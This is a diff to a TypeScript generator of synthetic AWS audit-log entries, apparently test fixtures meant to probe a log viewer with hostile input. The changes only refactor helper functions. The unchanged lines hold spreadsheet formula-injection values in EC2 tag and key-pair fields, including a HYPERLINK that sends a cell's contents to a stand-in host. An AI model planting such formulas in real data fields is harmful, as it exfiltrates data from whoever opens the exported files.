@@ -1,7 +1,7 @@
 import {accounts, buckets, regions} from './organization.ts';
 import {agents, sessionKey} from './cast.ts';
 import {assumedRole, iamUser, otherAccount} from './identities.ts';
-import {getObject} from './calls.ts';
+import {bucketParameters, ec2Done, getObject} from './calls.ts';
 import {minute, type Day, type Scene} from './scene.ts';
 import {type Random} from './random.ts';
 import {
@@ -27,7 +27,7 @@ const hostileEntries = (random: Random, start: number): Entry[] => {
 	const importer: Actor = {
 		account: prod, identity: iamUser(prod, 'importer-東京', 'AKIAIMPORTER2EXAMPLE'), ip: '203.0.113.77', agent: agents.boto,
 	};
-	const bucket = (bucketName: string) => ({bucketName, Host: `${bucketName}.s3.amazonaws.com`, location: ''});
+	const bucket = (name: string) => bucketParameters(name, 'location');
 	const longName = `harbor-lane-${'very-'.repeat(40)}long-name`;
 	return [
 		// A window title, a cleared screen, a link and a bell.
@@ -44,7 +44,7 @@ const hostileEntries = (random: Random, start: number): Entry[] => {
 		...perform(random, time + 420_000, [2, 40], importer, [
 			getObject(random, buckets.invoices, '請求書/2026-07/横浜港-積荷目録.pdf'),
 			getObject(random, buckets.invoices, 'inbox/🚢⚓️ été — Überfracht 👩‍👩‍👧.pdf'),
-			write('ec2', 'CreateTags', main, {resourcesSet: {items: [{resourceId: 'i-0d1e6b02a9c4f8351'}]}, tagSet: {items: [{key: 'Name', value: '=HYPERLINK("https://example.com/?x="&A1,"invoice")'}, {key: 'note', value: '+1-555-0100'}]}}, {response: {requestId: random.uuid(), _return: true}}),
+			write('ec2', 'CreateTags', main, {resourcesSet: {items: [{resourceId: 'i-0d1e6b02a9c4f8351'}]}, tagSet: {items: [{key: 'Name', value: '=HYPERLINK("https://example.com/?x="&A1,"invoice")'}, {key: 'note', value: '+1-555-0100'}]}}, ec2Done(random)),
 			write('ec2', 'CreateKeyPair', main, {keyName: '=HYPERLINK("https://example.com/","key")'}, {response: {keyName: '=HYPERLINK("https://example.com/","key")', keyFingerprint: random.hex(40)}}),
 		]),
 	];
